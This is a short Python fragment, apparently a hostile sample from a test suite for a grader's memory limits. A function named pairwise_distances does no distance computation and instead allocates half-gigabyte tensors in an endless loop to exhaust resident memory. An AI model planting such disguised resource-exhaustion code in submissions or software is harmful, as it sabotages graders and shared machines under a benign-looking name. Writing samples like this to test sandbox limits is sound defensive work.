# Fills memory it really uses, half a gigabyte at a time (unlike memory_bomb's untouched
# pages, this shows in the resident size the grader watches where there is no RLIMIT_AS).
def pairwise_distances(x, y):
    hoard = []
    while True:
        hoard.append(torch.ones(2**27))
